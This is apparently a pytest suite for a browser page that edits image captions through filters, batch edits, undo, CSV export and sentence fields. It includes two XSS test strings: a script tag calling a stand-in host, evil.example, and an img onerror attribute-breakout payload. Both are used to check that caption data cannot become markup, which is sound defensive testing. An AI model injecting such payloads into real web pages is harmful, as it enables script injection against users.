"""The captions page in a real browser: filters, edits in bulk and by picture, and what it hands back."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from bakery.edits import caption_edits
from bakery.edits.caption_edits import CaptionEdits
from bakery.pages import captions_page
from bakery.pages.captions_page import CaptionedPicture
from bakery.pages.page import Subject
from bakery.tags.trigger import Trigger

NASTY = '<script>fetch("http://evil.example/")</script>'
QUOTED = '"><img src=x onerror="document.title=1">'
GIVEN = {
    "a.png": "mirael, 1girl, smile, hat",
    "b.png": "mirael, 1girl, smile, outdoors",
    "c.png": "mirael, 1girl, Red_Hat, >_<",
    "d #1.png": "mirael, 1girl, rewritten in a file",
    "e.png": "mirael, 1girl, rewritten in the table",
}
PLAIN = {"d #1.png": "mirael, 1girl, tree", "e.png": "mirael, 1girl, sea"}


def draw(captions: dict[str, str] = GIVEN) -> str:
    pictures = [
        CaptionedPicture(image, f"5_mirael/{image}", text, PLAIN.get(image, text), "file" in text)
        for image, text in captions.items()
    ]
    return captions_page.draw(pictures, Trigger("mirael", "1girl"), Subject("mirael", "mirael-0a"))


@pytest.fixture
def opened(opened_page: Any, tmp_path: Path) -> Iterator[Any]:
    """The page beside its pictures; every request and message is held against it."""
    file = tmp_path / "captions.html"
    file.write_text(draw(), encoding="utf-8")
    (tmp_path / "5_mirael").mkdir()
    for image in GIVEN:
        Image.new("RGB", (60, 90), (200, 30, 30)).save(tmp_path / "5_mirael" / image)
    with opened_page(file) as (page, asked):
        yield page
    beside = tuple((tmp_path / "5_mirael" / image).as_uri() for image in GIVEN)
    assert all(u.startswith(("data:", "blob:", file.as_uri(), *beside)) for u in asked), asked


def shown(page: Any) -> str:
    # cards that are out of sight are not laid out (content-visibility), so they have no inner text
    return "".join(name[0] for name in page.locator(".card:visible .name").all_text_contents())


def rows(page: Any) -> dict[str, str]:
    text = page.locator("#csv").evaluate("node => node.textContent")
    head, *found = csv.reader(io.StringIO(text))
    assert head == ["image", "caption"]
    return dict(found)


def caption(page: Any, image: str) -> Any:
    return page.locator(f".card[data-image='{image}'] textarea")


def do(page: Any, what: str, tags: str, by: str = "") -> None:
    page.fill("[name=tags]", tags)
    page.fill("[name=by]", by)
    page.locator(f"#batch button[value='{what}']").click()


TABLED = {"e.png": GIVEN["e.png"]}


def test_browser_it_starts_with_what_the_table_has(opened: Any) -> None:
    assert rows(opened) == TABLED
    assert opened.locator("#count").inner_text() == "2"
    assert not opened.locator("#unsaved").is_visible()
    picture = "async image => { await image.decode(); return image.naturalWidth; }"
    assert opened.locator(".card img").first.evaluate(picture) == 60
    assert opened.locator("footer code").inner_text() == "config/edits/mirael/captions.csv"


def test_browser_pictures_are_filtered_by_tags(opened: Any) -> None:
    page = opened
    page.fill("[name=with]", "smile, 1GIRL")
    assert shown(page) == "ab"
    page.fill("[name=without]", "hat")
    assert shown(page) == "b"
    page.fill("[name=without]", "")
    page.fill("[name=with]", "outdoors, red hat")
    assert shown(page) == ""
    page.check("[name=logic][value=or]")
    assert shown(page) == "bc"
    page.fill("[name=with]", "")
    page.fill("[name=search]", "TABLE")
    assert shown(page) == "e"
    page.fill("[name=search]", "")
    page.check("[name=show][value=hand]")
    assert shown(page) == "de"
    page.check("[name=show][value=all]")
    page.locator("#tags summary").click()
    page.locator("#tags [data-tag='smile']").click()
    assert shown(page) == "ab"
    page.locator("#tags [data-tag='smile']").click()
    assert shown(page) == "abcde"


def test_browser_batch_edits_go_to_what_is_shown_or_selected(opened: Any) -> None:
    page = opened
    page.fill("[name=with]", "smile")
    do(page, "end", "night, smile")
    assert rows(page) == TABLED | {
        "a.png": "mirael, 1girl, smile, hat, night",
        "b.png": "mirael, 1girl, smile, outdoors, night",
    }
    page.check(".card[data-image='b.png'] input")
    do(page, "front", "city")
    assert rows(page)["b.png"] == "mirael, 1girl, city, smile, outdoors, night"
    assert "city" not in rows(page)["a.png"]
    do(page, "remove", "Night, nothing")
    assert rows(page)["b.png"] == "mirael, 1girl, city, smile, outdoors"
    page.fill("[name=with]", "")
    page.uncheck(".card[data-image='b.png'] input")
    do(page, "replace", "smile, red hat", by="grin, hat")
    assert rows(page) == TABLED | {
        "a.png": "mirael, 1girl, grin, hat, night",
        "b.png": "mirael, 1girl, city, grin, hat, outdoors",
        "c.png": "mirael, 1girl, grin, hat, >_<",
    }
    for _ in range(4):
        page.locator("#undo").click()
    assert rows(page) == TABLED
    assert page.locator("#undo").is_disabled()


def test_browser_a_caption_is_never_emptied(opened: Any) -> None:
    page = opened
    do(page, "remove", ", ".join(GIVEN["a.png"].split(", ")))
    assert "1 would be empty" in page.locator("#scope").inner_text()
    assert caption(page, "a.png").input_value() == GIVEN["a.png"]
    page.locator("#undo").click()
    caption(page, "a.png").fill(" ,\n ")
    caption(page, "a.png").blur()
    assert caption(page, "a.png").input_value() == GIVEN["a.png"]
    assert rows(page) == TABLED


def test_browser_one_caption_is_written_and_taken_back(
    opened: Any, tmp_path: Path, copied: Callable[[Any, Any], str], with_another_tab: Callable
) -> None:
    page = with_another_tab(opened)
    written = 'mirael says "hi",  two\nlines ,, ミラ'
    caption(page, "a.png").fill(written)
    caption(page, "d #1.png").fill("of a file, too")
    assert page.locator(".card[data-image='a.png'] .state").text_content() == "not saved"
    assert page.locator("#unsaved span").inner_text() == (
        "2 captions not saved yet, kept in this browser."
    )
    page.reload()
    assert caption(page, "a.png").input_value() == 'mirael says "hi", two, lines, ミラ'
    with page.expect_download() as waiting:
        page.locator("#download").click()
    assert waiting.value.suggested_filename == caption_edits.TABLE
    path = tmp_path / "captions.csv"
    waiting.value.save_as(path)
    assert copied(page, page.locator("#copy")) == path.read_text("utf-8")
    found = caption_edits.with_table(
        CaptionEdits({"d #1.png": "x"}, (), frozenset({"d #1.png"})), path, GIVEN
    )
    assert found.captions == TABLED | {
        "a.png": 'mirael says "hi", two, lines, ミラ', "d #1.png": "of a file, too",
    }  # fmt: skip
    assert "captions/d #1.txt is not used" in found.strangers[0]
    for image in ("a.png", "d #1.png", "e.png"):
        page.locator(f".card[data-image='{image}'] .back").click()
    assert rows(page) == {"d #1.png": PLAIN["d #1.png"]}, "what overrules the file is written"
    page.locator("#unsaved button").click()
    assert rows(page) == TABLED


SPACES = ',"\n\r\t\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u2028\u2029\u3000\ufeff\0 _'
"""What Python and a browser may take for an end or for white space, each in its own way."""
LETTERS = st.sampled_from(SPACES + "abA") | st.characters(exclude_categories=["Cs"])
WORDS = st.text(LETTERS, max_size=12)
OPERATIONS = st.one_of(
    st.tuples(st.sampled_from(["end", "front", "remove"]), WORDS, st.just("")),
    st.tuples(st.just("replace"), WORDS, WORDS),
    st.tuples(st.sampled_from(list(GIVEN)), WORDS, st.just("")),
)


@pytest.fixture(scope="module")
def still(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """The page, without its pictures, for many quick visits."""
    file = tmp_path_factory.mktemp("still") / "captions.html"
    file.write_text(draw(), encoding="utf-8")
    page = browser.new_page()
    page.goto(file.as_uri())
    yield page
    page.close()


@settings(max_examples=60, deadline=None)
@given(st.lists(OPERATIONS, max_size=5))
def test_browser_what_it_writes_is_read_back_as_the_same_captions(
    still: Any, operations: list[tuple[str, str, str]]
) -> None:
    """Whatever is typed: every caption that the page shows is the one that the layout will use."""
    shows, text = still.evaluate(
        """operations => {
            document.querySelector("#unsaved button").click();
            const field = (name) => document.querySelector(`#batch [name=${name}]`);
            const cards = [...document.querySelectorAll(".card")];
            for (const [what, first, second] of operations) {
                const button = document.querySelector(`#batch [value=${CSS.escape(what)}]`);
                if (button) {
                    field("tags").value = first;
                    field("by").value = second;
                    button.click();
                    continue;
                }
                const area = cards.find((card) => card.dataset.image === what).querySelector("textarea");
                area.value = first;
                area.dispatchEvent(new Event("input", { bubbles: true }));
                area.dispatchEvent(new Event("change", { bubbles: true }));
            }
            return [
                cards.map((card) => [card.dataset.image, card.querySelector("textarea").value]),
                document.querySelector("#csv").textContent,
            ];
        }""",
        [list(operation) for operation in operations],
    )
    path = Path(still.url.removeprefix("file://")).with_name(caption_edits.TABLE)
    path.write_bytes(text.encode())
    before = {"d #1.png": GIVEN["d #1.png"]}
    edits = caption_edits.with_table(CaptionEdits(before, (), frozenset(before)), path, GIVEN)
    automatic = GIVEN | PLAIN
    assert automatic | edits.captions == dict(shows)


def test_nothing_in_the_data_can_become_markup() -> None:
    page = draw({QUOTED: f"{NASTY}, {QUOTED}", NASTY: "x"})
    assert page.count("<script>") == 1
    assert "<img src=x" not in page
    assert not re.search(r"<[^>]+\son\w+=", re.sub(r'"[^"]*"', '""', page))


@pytest.mark.parametrize("width", [390, 800, 1280])
def test_browser_fits_the_window(opened: Any, browser: Any, width: int) -> None:
    page = browser.new_page(viewport={"width": width, "height": 800})
    page.goto(opened.url)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.locator("#download").is_visible()
    page.close()


def test_a_caption_that_is_too_long_ends_nothing(browser: Any, tmp_path: Path) -> None:
    long = ", ".join(["tree"] * 1000)
    file = tmp_path / "captions.html"
    file.write_text(draw({"a.png": long, "b.png": "mirael, hat"}), encoding="utf-8")
    page = browser.new_page()
    said: list[str] = []
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(file.as_uri())
    page.locator("[name=with]").fill("hat")
    assert shown(page) == "b"
    assert said == []
    page.close()


SPOKEN = {
    "a.png": ("mirael, 1girl, smile, hat", "She sits on a wall, smiling."),
    "b.png": ("mirael, 1girl, smile", ""),
    "c.png": ("mirael, 1girl, tree", "A bird sings, and she listens."),
}


@pytest.fixture
def spoken(browser: Any, tmp_path: Path) -> Iterator[Any]:
    """A page whose pictures have sentences; the third's was rewritten by hand."""
    pictures = []
    for image, (tags, said) in SPOKEN.items():
        caption = ", ".join(filter(None, (tags, said)))
        automatic = caption.replace("A bird", "An old bird")
        sentences = (said, said.replace("A bird", "An old bird"))
        several = (tags, said) if image == "a.png" else ()
        pictures.append(
            CaptionedPicture(image, image, caption, automatic, False, sentences, several)
        )
    file = tmp_path / "captions.html"
    html = captions_page.draw(pictures, Trigger("mirael", "1girl"), Subject("mirael", "mirael-0b"))
    file.write_text(html, encoding="utf-8")
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    page = context.new_page()
    troubles: list[str] = []
    page.on("pageerror", lambda error: troubles.append(str(error)))
    page.goto(file.as_uri())
    yield page
    assert troubles == []
    context.close()


def fields(page: Any, image: str) -> tuple[str, str]:
    card = page.locator(f".card[data-image='{image}']")
    return tuple(card.locator(f"textarea.{name}").input_value() for name in ("tags", "sentence"))


def test_tags_and_sentence_are_edited_apart_and_saved_as_one_caption(spoken: Any) -> None:
    assert all(fields(spoken, image) == given for image, given in SPOKEN.items())
    assert spoken.locator(".candidates li").all_text_contents() == list(SPOKEN["a.png"])
    sentence = spoken.locator(".card[data-image='b.png'] textarea.sentence")
    sentence.fill("She waves,  and\nlaughs.")
    tags = spoken.locator(".card[data-image='a.png'] textarea.tags")
    tags.fill("mirael, coat")
    assert rows(spoken) == {
        "a.png": "mirael, coat, She sits on a wall, smiling.",
        "b.png": "mirael, 1girl, smile, She waves, and laughs.",
        "c.png": "mirael, 1girl, tree, A bird sings, and she listens.",
    }
    sentence.fill("")
    assert "b.png" not in rows(spoken)


def test_batch_edits_and_filters_leave_sentences_alone(spoken: Any) -> None:
    spoken.fill("#filter [name=with]", "smiling.")
    assert shown(spoken) == ""
    spoken.fill("#filter [name=with]", "smile")
    spoken.fill("#batch [name=tags]", "rain")
    spoken.click("#batch [value=end]")
    assert fields(spoken, "a.png") == ("mirael, 1girl, smile, hat, rain", SPOKEN["a.png"][1])
    assert rows(spoken)["a.png"].endswith("hat, rain, She sits on a wall, smiling.")
    spoken.locator(".card[data-image='a.png'] textarea.sentence").fill("She runs, fast.")
    spoken.click("#undo")
    assert fields(spoken, "a.png") == SPOKEN["a.png"], "as before the batch edit"
    listed = spoken.locator("#tags button").all_text_contents()
    assert not [text for text in listed if "wall" in text]


def test_automatic_brings_tags_and_sentence_back_and_a_reload_keeps_both(
    spoken: Any, with_another_tab: Callable
) -> None:
    with_another_tab(spoken)
    spoken.locator(".card[data-image='a.png'] textarea.sentence").fill("She runs, fast.")
    spoken.reload()
    assert fields(spoken, "a.png") == (SPOKEN["a.png"][0], "She runs, fast.")
    spoken.click(".card[data-image='c.png'] .back")
    assert fields(spoken, "c.png") == ("mirael, 1girl, tree", "An old bird sings, and she listens.")
    assert list(rows(spoken)) == ["a.png"]
